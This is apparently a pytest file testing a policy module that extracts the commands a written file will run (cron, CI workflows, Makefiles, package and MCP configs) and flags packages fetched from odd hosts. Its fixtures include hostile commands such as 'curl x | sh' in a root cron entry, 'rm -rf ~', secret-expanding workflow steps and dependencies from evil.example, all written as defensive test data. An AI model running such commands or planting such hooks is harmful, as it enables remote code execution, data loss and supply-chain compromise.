"""What a written file will run later, and from where it will fetch."""

import pytest

from policy.effects.effect import Scope
from policy.effects.stored import StoredTexts, stored_in
from tests.support.cpu import cpu_within


def stored(path: str, content: str, scope: Scope = "project") -> StoredTexts:
    return stored_in(path, scope, content)


@pytest.mark.parametrize(
    ("path", "scope", "content", "scripts"),
    [
        ("run.sh", "project", "rm -rf x", ("rm -rf x",)),
        ("tools/run", "project", "#!/usr/bin/env bash\nls", ("#!/usr/bin/env bash\nls",)),
        ("~/.bashrc", "startup", "ls", ("ls",)),
        (".git/hooks/pre-commit", "startup", "ls", ("ls",)),
        (
            "/etc/cron.d/x",
            "startup",
            "# m h\n* * * * * root curl x | sh\n@reboot root ls\n",
            ("curl x | sh", "ls"),
        ),
        (
            "~/.config/systemd/user/x.service",
            "startup",
            "[Service]\nExecStart=/bin/sh -c 'ls %h'\n",
            ("/bin/sh -c 'ls %h'",),
        ),
        (
            "package.json",
            "project",
            '{"scripts": {"postinstall": "echo \\"x\\"", "lint": "eslint"}}',
            ('echo "x"', "eslint"),
        ),
        (
            ".github/workflows/x.yml",
            "project",
            "- run: make lint\n- name: x\n  run: |\n    ls ${{ secrets.A }}\n    pwd\n- uses: x\n",
            ("make lint", "ls $A\npwd"),
        ),
        (
            ".github/workflows/x.yml",
            "project",
            "- run: ls ${{ toJSON(secrets) }}\n- run: ls ${{ github.ref }}\n",
            ("ls $(env)", "ls $WORKFLOW_VALUE"),
        ),
        (".gitlab-ci.yml", "project", "test:\n  script:\n    - ls\n    - pwd\n", ("ls\npwd",)),
        ("Dockerfile", "project", 'FROM x\nRUN ls && \\\n  pwd\nCMD ["a"]\n', ("ls && \\\n  pwd",)),
        ("Makefile", "project", "all:\n\t@ls $$HOME\n", ("ls $HOME",)),
        ("Makefile", "project", "x := $(shell ls)\ny != pwd\na: b; id\n", ("ls", "pwd", "id")),
        (
            "Makefile",
            "project",
            "B = build $(X)\nX := y\nall:\n\trm -rf $(B) $(C) ${HOME} $@ $(shell pwd)\n",
            ("rm -rf build y make-value $HOME make-value $(pwd)",),
        ),
        ("Makefile", "project", "all:\n\tls && \\\n\tpwd\n", ("ls && \\\n\tpwd",)),
        ("justfile", "project", "all:\n    ls {{x}}\n", ("ls make-value",)),
        (
            "bin/x.sh",
            "project",
            "cd $(dirname \"$0\")/.. && awk '{print $0}' ${BASH_SOURCE[0]}",
            ("cd $(dirname \"bin/x.sh\")/.. && awk '{print $0}' bin/x.sh",),
        ),
        ("Jenkinsfile", "project", "steps { sh 'ls' }\nsh(script: \"pwd\")\n", ("ls", "pwd")),
        ("Rakefile", "project", "task :x do\n  sh 'ls'\nend\n", ("ls",)),
        ("Vagrantfile", "project", "provision 'shell', inline: 'ls'\n", ("ls",)),
        (
            ".github/workflows/x.yml",
            "project",
            "- run: ls '${{ secrets.A }}'\n",
            ("ls ''\"$A\"''",),
        ),
        (
            "tox.ini",
            "project",
            "[testenv]\ndeps = x\ncommands =\n  ls\n  pwd\n",
            ("\n  ls\n  pwd",),
        ),
        (
            "main.tf",
            "project",
            'provisioner "local-exec" {\n  command = "ls \\"x\\""\n}',
            ('ls "x"',),
        ),
        ("Procfile", "project", "web: ls\n", ("ls",)),
        ("site.yml", "project", "- hosts: all\n  tasks:\n  - shell: ls\n", ("ls",)),
        ("values.yml", "project", "shell: ls\n", ()),
        (".mcp.json", "project", '{"command": "sh", "args": ["-c", "ls"]}', ("sh", "sh '-c' 'ls'")),
        ("setup.py", "project", "x", ("python3 -c 'x'",)),
        (".vscode/tasks.json", "project", '{"command": "ls"}', ("ls",)),
        ("README.md", "project", "curl x | sh", ()),
        ("src/a.py", "project", "import os", ()),
        ("notes/cron.txt", "project", "* * * * * root ls", ()),
    ],
)
def test_scripts_of_files(path: str, scope: Scope, content: str, scripts: tuple[str, ...]) -> None:
    assert stored(path, content, scope).scripts == scripts


@pytest.mark.parametrize(
    ("path", "content", "scopes"),
    [
        ("requirements.txt", "requests==2.0\n", []),
        ("requirements.txt", "x @ git+https://evil.example/x.git\n", ["other"]),
        ("requirements.txt", "--extra-index" + "-url http://10.0.0.8/packages\n", ["private"]),
        ("requirements.txt", "--index" + "-url https://registry.npmjs.org/packages\n", []),
        ("package.json", '"left-pad": "https://evil.example/left-pad.tgz"', ["other"]),
        ("package.json", '"homepage": "https://us.example/", "version": "1.0.0"', []),
        (".npmrc", "registry=https://registry.npmjs.org/\n", []),
        (".npmrc", "registry=http://npm.evil.example/\n", ["other"]),
        ("package.json", '"funding": {"url": "https://give.example/x"}', []),
        (
            "package.json",
            '"repository": {"type": "git", "url": "git+https://git.example/x.git"}',
            [],
        ),
        ("package.json", '"url": "https://evil.example/url.tgz"', ["other"]),
        ("README.md", "registry=http://npm.evil.example/\n", []),
    ],
)
def test_packages_from_unusual_places(path: str, content: str, scopes: list[Scope]) -> None:
    assert [(effect.kind, effect.scope) for effect in stored(path, content).effects] == [
        ("execute", scope) for scope in scopes
    ]


@pytest.mark.slow
def test_the_time_is_linear() -> None:
    for path in (
        "x.sh",
        "crontab",
        "package.json",
        ".github/workflows/x.yml",
        "Dockerfile",
        "Makefile",
        "requirements.txt",
        "x.service",
        ".vscode/tasks.json",
        "justfile",
        "Jenkinsfile",
        "tox.ini",
        "a.tf",
        "a.yml",
    ):
        for content in (
            "\t" * 200_000,
            "run:" * 50_000,
            "\\\n" * 100_000,
            '"test":"' * 30_000,
            "* " * 100_000,
            "RUN " + "\\x" * 100_000,
            "run: |\n" * 40_000,
            "git+http://a " * 15_000,
            "hosts: a\n" * 20_000,
            "A=$(A)\n" * 8_000 + "\t$(A)\n" * 100,
            "sh 'a\\" * 30_000,
            "commands =\n a" * 10_000,
        ):
            with cpu_within(0.5):
                stored(path, content)


def test_a_file_that_runs_more_than_is_read_says_so() -> None:
    step = "      - run: make part{}\n"
    assert stored_in(".github/workflows/ci.yml", "project", "steps:\n" + step * 20).is_whole
    assert not stored_in(
        ".github/workflows/ci.yml",
        "project",
        "steps:\n" + "".join(step.format(n) for n in range(65)),
    ).is_whole
    assert not stored_in("a.sh", "project", "#!/bin/sh\n" + "ls\n" * 30_000 + "rm -rf ~\n").is_whole
    assert stored_in("data.csv", "project", "1,2,3\n" * 30_000).is_whole
